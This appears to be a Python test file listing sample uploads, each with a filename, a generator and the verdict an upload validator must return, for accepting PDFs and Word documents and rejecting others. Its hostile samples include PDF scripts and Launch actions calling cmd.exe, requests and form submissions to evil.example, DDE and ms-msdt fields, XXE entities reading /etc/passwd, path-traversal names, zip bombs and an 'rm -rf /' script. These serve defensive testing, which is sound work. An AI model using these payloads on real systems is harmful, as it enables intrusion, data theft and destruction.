"""What is let in and what is not: (what it is, its name, how to make it, the word it must get). See hostile.py."""

import io
import os
import zipfile

import pikepdf
from pikepdf import Array, Dictionary, Name, String

from tests.applications.hostile import *  # noqa: F403 - a table of its makers

SAMPLES = [
    # what must pass
    ("a PDF", "submission.pdf", pdf, "pdf"),
    (
        "a PDF with its objects in streams",
        "submission.pdf",
        lambda: pdf(pages=40, object_stream_mode=pikepdf.ObjectStreamMode.generate),
        "pdf",
    ),
    ("a PDF in capitals", "SUBMISSION.PDF", pdf, "pdf"),
    ("a PDF without an ending, as phones send it", "document", pdf, "pdf"),
    ("a PDF after a line of a mail program", "submission.pdf", lambda: b"\r\n" * 9 + pdf(), "pdf"),
    (
        "a PDF with a web link",
        "links.pdf",
        lambda: pdf(annotation(Subtype=Name.Link, A=Dictionary(S=Name.URI, URI=String("https://example.org")))),
        "pdf",
    ),
    (
        "a PDF that opens at page one",
        "goto.pdf",
        lambda: pdf(on_opening(Dictionary(S=Name.GoTo, D=Array([0, Name.Fit])))),
        "pdf",
    ),
    ("a PDF with words after its end", "tail.pdf", lambda: pdf() + b"\n\n", "pdf"),
    ("a Word document", "submission.docx", docx, "docx"),
    (
        "a Word document with web links",
        "links.docx",
        lambda: docx(
            links=relationship("hyperlink", "https://example.org/?a=1")
            + relationship("hyperlink", "mailto:info@example.org", number=2)
        ),
        "docx",
    ),
    (
        "a Word document with a picture",
        "picture.docx",
        lambda: docx(parts=[("word/media/image1.png", b"\x89PNG" + os.urandom(5000))]),
        "docx",
    ),
    (
        "a Word document with page numbers and contents",
        "fields.docx",
        lambda: docx(
            body=field([" PAGE "]) + field([" TOC ", "\\o 1-3"]) + field([' HYPERLINK "https://example.org/DDE" '])
        ),
        "docx",
    ),
    ("a Word document stored unpacked", "stored.docx", lambda: docx(compression=zipfile.ZIP_STORED), "docx"),
    # nothing, not enough, too much
    ("nothing", "empty.pdf", lambda: b"", "empty"),
    ("half a Word document", "half.docx", lambda: docx()[:700], "unreadable"),
    ("a PDF that ends after its first line", "short.pdf", lambda: b"%PDF-1.7\n", "unreadable"),
    ("a PDF without a page", "none.pdf", lambda: pdf(pages=0), "unreadable"),
    ("noise called a PDF", "noise.pdf", lambda: b"%PDF-1.7\n" + os.urandom(50_000), "unreadable"),
    ("noise", "noise.docx", lambda: b"\x01\x02" + os.urandom(50_000), "unknown_kind"),
    ("plain words", "words.pdf", lambda: b"Dear Sir or Madam, " * 50, "unknown_kind"),
    # another kind, or another name
    ("a PDF called Word", "submission.docx", pdf, "wrong_name"),
    ("a Word document called PDF", "submission.pdf", docx, "wrong_name"),
    ("a PDF called a program", "submission.pdf.exe", pdf, "wrong_name"),
    ("a Word document called one with macros", "submission.docm", docx, "wrong_name"),
    ("an old Word document", "submission.doc", lambda: OLE + bytes(2000), "word_old"),
    ("an old Word document called new", "submission.docx", lambda: OLE + bytes(2000), "word_old"),
    ("an Apple Pages document", "submission.pages", lambda: archive_of(**{"Index/Document.iwa": "a"}), "pages"),
    ("Rich Text", "submission.rtf", lambda: b"{\\rtf1 Hello}", "rtf"),
    (
        "a web page called PDF",
        "submission.pdf",
        lambda: b"<!DOCTYPE html><script>fetch('//evil.example')</script>",
        "html",
    ),
    (
        "an SVG called PDF",
        "submission.pdf",
        lambda: b"\xef\xbb\xbf<svg xmlns='http://www.w3.org/2000/svg' onload='x()'/>",
        "html",
    ),
    ("a Windows program called PDF", "submission.pdf", lambda: b"MZ" + os.urandom(4000), "program"),
    ("a Linux program called Word", "submission.docx", lambda: b"\x7fELF" + os.urandom(4000), "program"),
    ("a shell script", "submission.pdf", lambda: b"#!/bin/sh\nrm -rf /\n", "program"),
    ("a photograph", "IMG_0001.jpg", lambda: b"\xff\xd8\xff\xe0" + os.urandom(4000), "image"),
    ("an iPhone photograph called PDF", "scan.pdf", lambda: b"\0\0\0\x18ftypheic" + os.urandom(400), "image"),
    ("an archive", "papers.zip", lambda: archive_of(**{"a.pdf": pdf()}), "archive"),
    ("another archive", "papers.rar", lambda: b"Rar!\x1a\x07\x01\0" + os.urandom(400), "archive"),
    (
        "a spreadsheet",
        "table.xlsx",
        lambda: docx(
            main="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml",
            parts=[("xl/workbook.xml", "<a/>")],
        ),
        "other_office",
    ),
    ("a PDF that is also an archive", "both.pdf", lambda: pdf() + archive_of(a="b"), "two_kinds"),
    ("a PDF behind a program's head", "both.pdf", lambda: b"MZ" + bytes(100) + pdf(), "two_kinds"),
    ("a PDF behind a web page", "both.pdf", lambda: b"<html><script>x()</script>" + pdf(), "two_kinds"),
    ("an archive behind a PDF's head", "both.docx", lambda: b"%PDF-1.7\n" + docx(), "two_kinds"),
    # PDFs that act
    (
        "a PDF with a password",
        "locked.pdf",
        lambda: pdf(encryption=pikepdf.Encryption(user="a", owner="b")),
        "pdf_password",
    ),
    (
        "a PDF with restrictions only",
        "locked.pdf",
        lambda: pdf(encryption=pikepdf.Encryption(user="", owner="b")),
        "pdf_password",
    ),
    ("a PDF locked in the old way", "locked.pdf", lambda: pdf(encryption=OLD_LOCK), "pdf_password"),
    (
        "a script on opening",
        "active.pdf",
        lambda: pdf(on_opening(Dictionary(S=Name.JavaScript, JS=String("app.alert(1)")))),
        "pdf_script",
    ),
    ("a script by name", "active.pdf", lambda: pdf(named_script), "pdf_script"),
    ("a script hidden deep inside", "active.pdf", lambda: pdf(hidden_script), "pdf_script"),
    (
        "a script in a packed object",
        "active.pdf",
        lambda: pdf(named_script, object_stream_mode=pikepdf.ObjectStreamMode.generate),
        "pdf_script",
    ),
    (
        "a program started on opening",
        "active.pdf",
        lambda: pdf(on_opening(Dictionary(S=Name.Launch, F=String("cmd.exe")))),
        "pdf_action",
    ),
    (
        "a program started by a click",
        "active.pdf",
        lambda: pdf(annotation(Subtype=Name.Link, A=Dictionary(S=Name.Launch, F=String("cmd.exe")))),
        "pdf_action",
    ),
    (
        "an address called on opening",
        "active.pdf",
        lambda: pdf(on_opening(Dictionary(S=Name.URI, URI=String("https://evil.example")))),
        "pdf_action",
    ),
    (
        "an address called by turning a page",
        "active.pdf",
        lambda: pdf(on_page(Dictionary(S=Name.URI, URI=String("https://evil.example")))),
        "pdf_action",
    ),
    (
        "a share of the network opened on opening",
        "active.pdf",
        lambda: pdf(on_opening(Dictionary(S=Name.GoToR, F=String("//evil.example/a")))),
        "pdf_action",
    ),
    (
        "a form that sends itself",
        "active.pdf",
        lambda: pdf(annotation(Subtype=Name.Link, A=Dictionary(S=Name.SubmitForm, F=String("https://evil.example")))),
        "pdf_action",
    ),
    ("content from elsewhere", "active.pdf", lambda: pdf(external_content), "pdf_action"),
    (
        "an XFA form",
        "form.pdf",
        lambda: pdf(lambda document: document.Root.__setitem__("/AcroForm", Dictionary(XFA=Array([])))),
        "pdf_form",
    ),
    ("a file inside", "carrier.pdf", lambda: pdf(attachment), "pdf_attachment"),
    (
        "a file pinned to the page",
        "carrier.pdf",
        lambda: pdf(annotation(Subtype=Name.FileAttachment, FS=Dictionary(F=String("a")))),
        "pdf_attachment",
    ),
    ("a film", "film.pdf", lambda: pdf(annotation(Subtype=Name.RichMedia)), "pdf_media"),
    # Word documents that act
    (
        "a Word document with a password",
        "locked.docx",
        lambda: OLE + "EncryptedPackage".encode("utf-16-le") + bytes(900),
        "word_password",
    ),
    ("macros", "macros.docx", lambda: docx(parts=[("word/vbaProject.bin", OLE)]), "word_macros"),
    (
        "macros under another name",
        "macros.docx",
        lambda: docx(
            parts=[("word/theme.dat", "x")],
            types='<Override PartName="/word/theme.dat" ContentType="application/vnd.ms-office.vbaProject"/>',
        ),
        "word_macros",
    ),
    (
        "a macro document called Word",
        "macros.docx",
        lambda: docx(main="application/vnd.ms-word.document.macroEnabled.main+xml"),
        "word_macros",
    ),
    (
        "a template from elsewhere",
        "linked.docx",
        lambda: docx(links=relationship("attachedTemplate", "https://evil.example/t.dotm")),
        "word_linked",
    ),
    (
        "a picture from elsewhere",
        "linked.docx",
        lambda: docx(links=relationship("image", "https://evil.example/pixel.png")),
        "word_linked",
    ),
    (
        "a picture from a share",
        "linked.docx",
        lambda: docx(links=relationship("image", "file://evil.example/pixel.png")),
        "word_linked",
    ),
    (
        "an object from elsewhere",
        "linked.docx",
        lambda: docx(links=relationship("oleObject", "mhtml:https://evil.example/x!x-usc:")),
        "word_linked",
    ),
    (
        "a frame from elsewhere",
        "linked.docx",
        lambda: docx(links=relationship("frame", "https://evil.example/")),
        "word_linked",
    ),
    (
        "a link that starts a program",
        "linked.docx",
        lambda: docx(links=relationship("hyperlink", "ms-msdt:/id")),
        "word_linked",
    ),
    (
        "a link to a share",
        "linked.docx",
        lambda: docx(links=relationship("hyperlink", "\\\\evil.example\\a")),
        "word_linked",
    ),
    (
        "a field that talks to programs",
        "fields.docx",
        lambda: docx(body=field([" DDE", "AUTO c:\\\\cmd.exe"])),
        "word_fields",
    ),
    (
        "a field that fetches a picture",
        "fields.docx",
        lambda: docx(body='<w:fldSimple w:instr=" includepicture &quot;https://evil.example&quot;"/>'),
        "word_fields",
    ),
    (
        "an object inside",
        "embedded.docx",
        lambda: docx(
            links=relationship("oleObject", "embeddings/o.bin", "Internal"), parts=[("word/embeddings/o.bin", "x")]
        ),
        "word_embedded",
    ),
    (
        "an object inside, unannounced",
        "embedded.docx",
        lambda: docx(parts=[("word/media/image1.png", OLE)]),
        "word_embedded",
    ),
    (
        "a control inside",
        "embedded.docx",
        lambda: docx(links=relationship("control", "activeX/a.xml", "Internal")),
        "word_embedded",
    ),
    (
        "an archive inside",
        "embedded.docx",
        lambda: docx(parts=[("word/embeddings/table.xlsx", docx())]),
        "word_embedded",
    ),
    (
        "a web page inside",
        "embedded.docx",
        lambda: docx(links=relationship("aFChunk", "chunk.html", "Internal")),
        "word_embedded",
    ),
    # archives made to hurt
    ("an encrypted archive", "locked.docx", lambda: marked_encrypted(docx()), "archive_password"),
    ("too many entries", "bomb.docx", lambda: docx(parts=[(f"word/media/{n}.png", "x") for n in range(2000)]), "bomb"),
    (
        "an entry that unpacks a thousandfold",
        "bomb.docx",
        lambda: docx(parts=[("word/media/image1.png", bytes(50_000_000))]),
        "bomb",
    ),
    ("an entry that lies about its size", "bomb.docx", lambda: lying(announced=9000, real=500_000), "bomb"),
    ("an entry that is shorter than it says", "bomb.docx", lambda: lying(announced=9000, real=8000), "unreadable"),
    ("entries that share their bytes", "bomb.docx", overlapping, "bomb"),
    ("a name that climbs out", "climb.docx", lambda: docx(parts=[("../../etc/cron.d/x", "x")]), "unreadable"),
    ("a name from the root", "climb.docx", lambda: docx(parts=[("/etc/cron.d/x", "x")]), "unreadable"),
    ("a name of Windows", "climb.docx", lambda: docx(parts=[("word\\..\\..\\x", "x")]), "unreadable"),
    ("the same name twice", "twice.docx", lambda: docx(parts=[("WORD/document.xml", "<a/>")]), "unreadable"),
    ("a link out of the archive", "link.docx", lambda: docx(change=symlink), "unreadable"),
    ("entities that multiply", "laughs.docx", laughs, "unreadable"),
    (
        "a type that lies elsewhere",
        "dtd.docx",
        lambda: docx(head='<!DOCTYPE w SYSTEM "//evil.example/">'),
        "unreadable",
    ),
    (
        "an entity that reads a file",
        "xxe.docx",
        lambda: docx(head='<!DOCTYPE w [<!ENTITY x SYSTEM "file:///etc/passwd">]>', body="<w:p>&x;</w:p>"),
        "unreadable",
    ),
    (
        "an entity in another alphabet",
        "xxe.docx",
        lambda: docx(
            parts=[
                (
                    "word/styles.xml",
                    '<?xml version="1.0" encoding="utf-16"?><!DOCTYPE w [<!ENTITY x SYSTEM "http://evil.example/">]><w/>'.encode(
                        "utf-16"
                    ),
                )
            ]
        ),
        "unreadable",
    ),
    ("broken XML", "broken.docx", lambda: docx(body="<w:p>"), "unreadable"),
    ("a PDF that fills the memory", "bomb.pdf", pdf_bomb, "unreadable"),
]
